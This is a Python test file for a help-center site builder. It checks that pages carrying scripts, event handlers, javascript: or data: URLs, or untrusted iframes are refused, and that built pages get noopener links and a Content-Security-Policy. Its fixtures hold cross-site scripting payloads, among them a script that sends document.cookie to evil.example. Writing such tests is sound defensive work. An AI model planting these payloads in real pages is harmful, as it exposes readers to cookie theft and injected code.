"""Content security: pages cannot carry code, external links do not leak, every page ships a CSP it passes.

Bad content is refused with a located message (one fixture build, one page per
case). The output is checked on the real site: every HTML file has a
Content-Security-Policy meta tag that allows, by hash, exactly its inline
scripts, and every link to another host has rel="noopener noreferrer".
"""

from __future__ import annotations

import re
from pathlib import Path

import lxml.html
import pytest

from helpcenter.htmltree import HtmlTree
from helpcenter.security.content import (
    add_rel_noopener,
    content_security_policy,
    insert_policy,
    locate,
    scan_content,
    script_hash,
)
from sitebuilder import build_site

HOME = "---\ntitle: Home\ndescription: The home page.\n---\n\nWelcome.\n"
NO_CODE = "-> link to a page of the help center or to an https:// address"


def article(title: str, body: str) -> str:
    """Front matter that passes the front-matter check; the body starts on line 7."""
    return f"---\ntitle: {title}\ndescription: A page for a test.\nreviewed: 2026-01-01\n---\n\n{body}"


# page body -> the exact problems it must produce (line 7 is the body's first line)
CASES: dict[str, tuple[str, list[str]]] = {
    "script": (
        "Intro.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n",
        [
            "9:1: script-tag <script> would run code in readers' browsers -> remove it; behaviour belongs in the"
            " theme (overrides/), reviewed by a developer"
        ],
    ),
    "handler-html": (
        '<div onmouseover="steal()">Hover me</div>\n',
        [
            "7:6: event-handler 'onmouseover' would run code when readers use the page -> remove the attribute;"
            " pages cannot carry JavaScript"
        ],
    ),
    "handler-attr-list": (
        'Pay [online](https://pay.example.com){: onclick="steal()" }.\n',
        [
            "7:41: event-handler 'onclick' would run code when readers use the page -> remove the attribute;"
            " pages cannot carry JavaScript"
        ],
    ),
    "javascript-url": (
        "Click [here](javascript:alert(document.domain)) now.\n",
        [f"7:14: unsafe-url 'javascript:alert(document.domain)' would run code when followed {NO_CODE}"],
    ),
    "javascript-url-obfuscated": (
        '<a href="  JaVaScRiPt:alert(1)">x</a>\n',
        [f"7:12: unsafe-url 'JaVaScRiPt:alert(1)' would run code when followed {NO_CODE}"],
    ),
    "data-url": (
        "A [data link](data:text/html;base64,PHNjcmlwdD4=).\n",
        [
            "7:15: unsafe-url 'data:text/html;base64,PHNjcmlwdD4=' (a data: URL) can carry a whole page or"
            f" script {NO_CODE}"
        ],
    ),
    "iframe": (
        '<iframe src="https://evil.example.com/frame"></iframe>\n',
        [
            "7:14: iframe-host <iframe> from 'https://evil.example.com/frame' is not allowed: frames must be"
            " https:// from an allowed host (www.youtube-nocookie.com) -> embed from one of them, or, after"
            " review, add the host to extra.helpcenter.iframe_hosts in mkdocs.yml"
        ],
    ),
    "iframe-allowed": ('<iframe src="https://www.youtube-nocookie.com/embed/x" title="Training"></iframe>\n', []),
    "object": (
        '<object data="https://cdn.example.com/tour.swf"></object>\n',
        ["7:1: plugin-element <object> embeds a plugin or foreign document -> link to the file instead"],
    ),
    "external-image": (
        "![Logo](https://cdn.example.com/logo.png)\n",
        [
            "7:9: external-resource <img> loads 'https://cdn.example.com/logo.png' from another host, which the"
            " site's Content-Security-Policy blocks (and which tells that host who reads the page) -> save the file"
            " under docs/ and link to it there"
        ],
    ),
    "plain-http": (
        "See [the old site](http://example.com/help).\n",
        [
            "7:20: insecure-link 'http://example.com/help' is not encrypted -> use 'https://example.com/help' if that"
            " site supports it"
        ],
    ),
    "in-code-is-fine": (
        '```html\n<script>alert(1)</script>\n<a href="javascript:x()">x</a>\n```\n\nInline `<script>` too.\n',
        [],
    ),
}


def test_each_unsafe_content_is_refused_at_its_line_and_column(tmp_path: Path) -> None:
    names = {case: f"{case}.md" for case in CASES}
    pages = {names[case]: article(case, body) for case, (body, _) in CASES.items()}
    result = build_site(
        tmp_path,
        {"index.md": HOME, **pages},
        config={
            "extra": {"helpcenter": {"facts_file": "data/facts.yml", "iframe_hosts": ["www.youtube-nocookie.com"]}}
        },
    )
    assert not result.ok
    assert "Traceback" not in result.output
    expected = sorted(
        f"docs/{names[case]}:{problem}" for case, (_body, problems) in CASES.items() for problem in problems
    )
    assert sorted(result.problems) == expected
    assert "WARNING -  docs/plain-http.md:7:20: insecure-link" in result.output


# --- the pure functions ---------------------------------------------------------------


def test_a_macro_produced_problem_says_where_it_comes_from() -> None:
    problems = scan_content(
        HtmlTree('<p><a href="javascript:x()">x</a></p>'), iframe_hosts=[], site_host="help.example.com"
    )
    assert [str(f) for f in locate(problems, "---\ntitle: T\n---\n\n{{ bad_macro() }}\n", "docs/a.md")] == [
        "docs/a.md:1:1: unsafe-url 'javascript:x()' would run code when followed (it comes from a macro or a"
        f" snippet) {NO_CODE}"
    ]


def test_the_same_problem_twice_is_located_twice() -> None:
    source = "<script>a()</script>\n\n```\n<script>\n```\n\n<script>b()</script>\n"
    problems = scan_content(
        HtmlTree("<script>a()</script><pre><code>&lt;script&gt;</code></pre><script>b()</script>"),
        iframe_hosts=[],
        site_host="",
    )
    assert [(f.line, f.column) for f in locate(problems, source, "docs/a.md")] == [(1, 1), (7, 1)]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ('<a href="https://other.example/x">', '<a rel="noopener noreferrer" href="https://other.example/x">'),
        ('<a href="//other.example/x">', '<a rel="noopener noreferrer" href="//other.example/x">'),
        (
            '<a rel="edit" href="https://github.com/x">',
            '<a rel="edit noopener noreferrer" href="https://github.com/x">',
        ),
        ("<a href='https://x.example' rel='noopener'>", "<a href='https://x.example' rel=\"noopener noreferrer\">"),
        ('<a href="https://help.example.com/billing/">', '<a href="https://help.example.com/billing/">'),
        ('<a href="../billing/">', '<a href="../billing/">'),
        ('<a href="mailto:help@example.com">', '<a href="mailto:help@example.com">'),
        ('<a class="x">', '<a class="x">'),
        ('<abbr title="https://x.example">', '<abbr title="https://x.example">'),
    ],
)
def test_external_links_get_noopener_noreferrer(before: str, after: str) -> None:
    assert add_rel_noopener(before, "help.example.com") == after


def test_policy_allows_exactly_the_given_scripts_by_hash() -> None:
    page = '<html><head><meta charset="utf-8"><script>a()</script></head><body></body></html>'
    # printf "a()" | openssl dgst -sha256 -binary | base64
    assert script_hash("a()") == "'sha256-qVpDBgj7bpq5hMAcGp3AOc79J3Y1Z4HvySTwKrWDoy4='"
    policy = content_security_policy(
        [script_hash("a()")], frame_hosts=["www.youtube-nocookie.com"], connect_origins=["https://feedback.example.com"]
    )
    assert policy == (
        "default-src 'self'; script-src 'self' 'sha256-qVpDBgj7bpq5hMAcGp3AOc79J3Y1Z4HvySTwKrWDoy4=';"
        " style-src 'self'; img-src 'self' data:; font-src 'self';"
        " connect-src 'self' https://feedback.example.com; frame-src https://www.youtube-nocookie.com;"
        " object-src 'none'; base-uri 'self'; form-action 'self'"
    )
    secured = insert_policy(page, policy)
    assert secured.index('http-equiv="Content-Security-Policy"') < secured.index("<script>")


_INLINE = re.compile(r"<script>(.*?)</script>", re.S)


def inline_scripts(html: str) -> list[str]:
    """What a page really runs inline (the test reads the output; the build never does)."""
    return [script_hash(body) for body in _INLINE.findall(html)]


# --- the real site --------------------------------------------------------------------


def _policy(document: lxml.html.HtmlElement) -> dict[str, list[str]]:
    metas = document.xpath('//head/meta[@http-equiv="Content-Security-Policy"]')
    assert len(metas) == 1
    directives = [part.split() for part in metas[0].get("content").split(";")]
    return {words[0]: words[1:] for words in directives if words}


def test_every_real_page_ships_a_policy_its_inline_scripts_pass(real_site_dir: Path) -> None:
    pages = sorted(real_site_dir.rglob("*.html"))
    assert len(pages) > 10
    body_scripts = set()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        document = lxml.html.fromstring(text)
        head = document.find("head")
        assert head[0].tag == "meta" and head[0].get("charset"), page
        assert head[1].get("http-equiv") == "Content-Security-Policy", f"{page}: the policy must come first"
        policy = _policy(document)
        assert set(inline_scripts(text)) <= set(policy["script-src"][1:]), page
        assert policy["script-src"][0] == "'self'"
        assert policy["object-src"] == ["'none'"] and "'unsafe-inline'" not in policy["script-src"]
        # Instant navigation runs the next page's body scripts under the first page's policy: they must
        # be the same on every page. It only follows links to the sitemap's addresses, so never to the
        # redirect page at a moved page's old address (mkdocs-redirects; hooks/jobs/redirects.py).
        if 'http-equiv="refresh"' not in text:
            body_scripts.add(tuple(inline_scripts(text[text.index("<body") :])))
    assert len(body_scripts) == 1


def test_every_external_link_of_the_real_site_has_noopener_noreferrer(real_site_dir: Path) -> None:
    external = 0
    for page in real_site_dir.rglob("*.html"):
        for link in lxml.html.fromstring(page.read_text(encoding="utf-8")).iter("a"):
            href = link.get("href") or ""
            if href.startswith(("http://", "https://")) and not href.startswith("https://help.example.com/"):
                external += 1
                assert {"noopener", "noreferrer"} <= set((link.get("rel") or "").split()), f"{page}: {href}"
    assert external > 0


def test_the_feedback_endpoint_is_the_one_other_origin_pages_may_connect_to(tmp_path: Path) -> None:
    result = build_site(
        tmp_path,
        {"index.md": HOME},
        config={
            "extra": {
                "helpcenter": {"facts_file": "data/facts.yml"},
                "feedback": {"endpoint": "https://feedback.example.com/help-center"},
            }
        },
    )
    assert result.ok, result.output
    policy = _policy(lxml.html.fromstring((result.site_dir / "index.html").read_text(encoding="utf-8")))
    assert policy["connect-src"] == ["'self'", "https://feedback.example.com"]
